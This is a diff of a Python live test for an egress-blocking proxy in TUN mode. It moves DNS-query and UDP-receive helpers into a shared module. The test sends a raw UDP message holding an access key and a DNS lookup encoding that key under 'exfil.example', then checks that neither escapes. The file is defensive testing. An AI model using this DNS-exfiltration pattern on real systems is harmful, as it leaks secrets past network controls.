@@ -9,8 +9,6 @@ from __future__ import annotations
 
 import json
 import socket
-import struct
-import subprocess
 import time
 from pathlib import Path
 
@@ -18,6 +16,8 @@ import pytest
 
 from tests import fakes
 from tests.live import harness
+from tests.live.tun import dns_query as query
+from tests.live.tun import received, start_tun_proxy
 
 pytestmark = [pytest.mark.live, pytest.mark.root]
 
@@ -26,35 +26,16 @@ DEVICE = "egtun26"
 NETWORK = "198.18.226.0/24"
 
 
-def query(name: str, ident: int) -> bytes:
-    labels = b"".join(bytes([len(label)]) + label for label in name.encode().split(b"."))
-    return struct.pack(">HHHHHH", ident, 0x0100, 1, 0, 0, 0) + labels + b"\x00\x00\x01\x00\x01"
 
 
-def received(sink: socket.socket) -> list[bytes]:
-    got = []
-    sink.settimeout(2)
-    try:
-        while True:
-            got.append(sink.recvfrom(65536)[0])
-    except TimeoutError:
-        return got
 
 
 def test_raw_udp_and_dns_names_holding_a_key_leave_nowhere(tmp_path, upstream):
     sink = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
     sink.bind(("127.0.0.1", 0))
     record = tmp_path / "rec"
-    proxy = harness.start_proxy(tmp_path, upstream, "--set", f"exitguard_record_dir={record}",
-                                "-s", str(harness.ROUTE_ADDON),
-                                "--set", f"egtest_upstream=127.0.0.1:{sink.getsockname()[1]}",
-                                "--mode", "regular@127.0.0.1:0", "--mode", f"tun:{DEVICE}", route=False)
+    proxy = start_tun_proxy(tmp_path, upstream, DEVICE, NETWORK, sink.getsockname()[1], record)
     try:
-        deadline = time.monotonic() + 20
-        while "TUN interface started" not in proxy.log and time.monotonic() < deadline:
-            time.sleep(0.1)
-        subprocess.run(["ip", "link", "set", DEVICE, "up"], check=True)
-        subprocess.run(["ip", "route", "add", NETWORK, "dev", DEVICE], check=True)
         agent = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
         agent.sendto(f"hello {AKID} secret".encode(), ("198.18.226.5", 9999))
         agent.sendto(query(f"{AKID.lower()}.exfil.example", 0x2601), ("198.18.226.6", 53))
